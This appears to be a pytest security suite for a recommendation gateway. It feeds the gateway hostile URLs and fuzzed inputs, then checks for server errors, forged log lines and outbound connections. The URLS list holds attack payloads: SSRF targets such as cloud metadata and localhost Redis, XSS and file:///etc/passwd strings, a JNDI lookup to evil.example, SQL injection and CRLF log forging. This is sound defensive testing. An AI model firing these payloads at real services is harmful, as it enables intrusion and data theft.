"""Requests made to harm: no 5xx, no line in the log that a caller wrote, no connection to anywhere."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.client import HTTPConnection
from json import dumps, loads
from pathlib import Path
from urllib.parse import quote

import httpx
import schemathesis
from gateway_process import GatewayProcess, gateway
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from hypothesis.errors import Unsatisfiable

FORGED = "2026-01-01 00:00:00,000 CRITICAL forged: all is lost"
URLS = [
    "https://user:pass@site.example/a",
    "https://site.example@evil.example/",
    "https:\\\\site.example\\a",
    "https:/\\site.example",
    "\\\\site.example\\a",
    f"https://site.example/\r\n{FORGED}",
    f"https://site.example/\n{FORGED}\n",
    "https://site.example/\x00\x07\x1b[31mred\x1b[0m",
    "https://site.example/\u2028\u2029\x85",
    "http://[::1]/",
    "http://[::1",
    "http://[::ffff:169.254.169.254]/latest/meta-data",
    "http://[fe80::1%25eth0]/",
    "http://[1:2:3:4:5:6:7:8:9]/",
    "http://169.254.169.254/latest/meta-data",
    "http://0x7f.1/",
    "http://2130706433/",
    "http://localhost:6379/",
    "https://раураl.example/",
    "https://ｅｘａｍｐｌｅ.example/",
    "https://xn--/",
    "https://xn--a-ecp.example/",
    "https://site.example/%2e%2e/%252e%252e/%25252e",
    "https://site.example/%00%0d%0a%ff%zz",
    "https://site.example/\udc80\ud800",
    "https://site.example/" + "a" * 65_536,
    "https://" + "a." * 30_000 + "example/",
    "https://site.example/?" + "&".join(f"a{n}=b" for n in range(8_000)),
    "https://site.example:99999999999999/",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt\t:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "gopher://site.example/_x",
    "blob:https://site.example/1",
    "https://site.example/{{7*7}}/${jndi:ldap://evil.example/a}",
    "' OR 1=1 --",
    "%s%s%s%n",
    "",
    " ",
]
#: Logs every connection and DNS look-up that Python makes after start-up.
WATCHED = """
import sys, threading
def watch(event, arguments):
    if event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "urllib.Request"):
        sys.stderr.write(f"OUTBOUND {event} {arguments[-1]!r}\\n")
from service.process import workers
startup_message = workers.startup_message
def greet(*arguments):
    sys.addaudithook(watch)
    return startup_message(*arguments)
workers.startup_message = greet
from cli.main import main
main()
"""
_LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (WARNING|ERROR) [\w.]+: ")
_ESTABLISHED, _SYN_SENT = "01", "02"


@contextmanager
def hostile_gateway(tiny, directory: Path) -> Iterator[tuple[GatewayProcess, Path]]:
    bundles = directory / "bundles"
    tiny.link(bundles)
    log = directory / "log"
    cheap = ["stage1.keep_top=1", "unknown.most=0", "budget_ms=5000"]
    with gateway(bundles, module=("-c", WATCHED, "serve"), settings=cheap, log=log) as running:
        yield running, log


def outbound(running: GatewayProcess) -> list[str]:
    """Return the connections of the process that did not come in at one of its ports."""
    sockets = set()
    for descriptor in Path(f"/proc/{running.pid}/fd").iterdir():
        try:
            sockets.add(descriptor.readlink().name.removeprefix("socket:[").removesuffix("]"))
        except OSError:
            continue
    ports = {f"{int(address.rpartition(':')[2]):04X}" for address in (running.http, running.grpc, running.admin)}
    found = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{running.pid}/net/{table}").read_text().splitlines()[1:]:
            _, local, remote, state, *_, inode = line.split()[:10]
            if inode in sockets and state in (_ESTABLISHED, _SYN_SENT) and local.rpartition(":")[2] not in ports:
                found.append(remote)
    return found


def forged(log: Path) -> list[str]:
    """Return the lines of the log that do not look like the gateway's."""
    return [line for line in log.read_text(errors="replace").splitlines() if not _LINE.match(line) or "forged" in line]


def ask_in_every_way(connection: HTTPConnection, url: str) -> Iterator[int]:
    """Ask for a URL in a body, a batch, a query, a path; give the statuses, 0 where the connection was cut."""
    query = quote(url.encode("utf-8", "surrogatepass"), safe="")
    json = {"content-type": "application/json", "x-request-id": query[:200]}
    text = dumps({"url1": url}).encode()  # the standard library writes lone surrogates too
    for method, path, body in (
        ("POST", "/recommend", text),
        ("POST", "/recommend/batch", b'{"requests":[%b]}' % text),
        ("GET", f"/recommend?url1={query}", None),
        ("GET", f"/recommend?url1={query}&explain=1", None),
        ("GET", f"/{query}", None),
    ):
        try:
            connection.request(method, path, body, json)
            answer = connection.getresponse()
            told = answer.read()
            if answer.headers["content-type"] != "text/html; charset=utf-8":  # an empty URL's path is the explorer
                loads(told)
            yield answer.status
        except ConnectionError:  # it refused the head of the request while we still sent it
            connection.close()
            yield 0


def test_no_url_is_a_server_error(tiny, tmp_path, report) -> None:
    statuses: Counter[int] = Counter()
    with hostile_gateway(tiny, tmp_path) as (running, log):
        connection = HTTPConnection(running.http.removeprefix("http://"), timeout=30)
        for url in URLS:
            statuses.update(ask_in_every_way(connection, url))
        connections = outbound(running)
        connection.close()
        assert running.leave() == 0
    told = ", ".join(f"{count} × {status or 'cut'}" for status, count in sorted(statuses.items()))
    report("hostile URLs", "0 5xx, 0 forged log lines, 0 outbound", f"{len(URLS)} URLs in 5 ways: {told}")
    assert max(statuses) < 500
    assert statuses[0] < 20
    assert forged(log) == []
    assert connections == []


def test_nothing_that_the_openapi_document_allows_or_forbids_is_a_server_error(tiny, tmp_path, long, report) -> None:
    examples = 1_000 if long else 15
    sent = 0
    with hostile_gateway(tiny, tmp_path) as (running, log):
        schema = schemathesis.openapi.from_url(f"{running.http}/openapi.json")
        for found in schema.get_all_operations():
            operation = found.ok()
            for mode in schemathesis.GenerationMode:

                @settings(
                    max_examples=examples,
                    deadline=None,
                    database=None,
                    phases=[Phase.explicit, Phase.generate],
                    suppress_health_check=list(HealthCheck),
                )
                @given(operation.as_strategy(generation_mode=mode))
                def ask(case: schemathesis.Case) -> None:
                    nonlocal sent
                    sent += 1
                    assert case.call(timeout=30).status_code < 500

                with suppress(Unsatisfiable):  # nothing to get wrong in a request that takes nothing
                    ask()
        connections = outbound(running)
        assert running.leave() == 0
    report("the OpenAPI document, fuzzed", "0 5xx, 0 forged log lines, 0 outbound", f"{sent:,} requests: none of these")
    assert forged(log) == []
    assert connections == []


def test_no_text_as_a_url_is_a_server_error(tiny, tmp_path, long, report) -> None:
    examples = 5_000 if long else 60
    words = st.sampled_from(
        ["https://", "http:", "//", "@", "\\", "[::1]", "%", "%25", "\r\n", "xn--", "\u202e", FORGED]
    )
    texts = st.lists(st.one_of(words, st.text(max_size=20)), max_size=12).map("".join)
    with hostile_gateway(tiny, tmp_path) as (running, log), httpx.Client(base_url=running.http, timeout=30) as client:

        @settings(max_examples=examples, deadline=None, database=None, suppress_health_check=list(HealthCheck))
        @given(texts)
        def ask(url: str) -> None:
            answer = client.get("/recommend", params={"url1": url})
            assert answer.status_code in (200, 414, 422)
            assert client.post("/recommend", json={"url1": url, "exclude": [url]}).status_code in (200, 422)

        ask()
        connections = outbound(running)
        assert running.leave() == 0
    report("any text as a URL", "0 5xx, 0 forged log lines, 0 outbound", f"{examples:,} texts: none of these")
    assert forged(log) == []
    assert connections == []
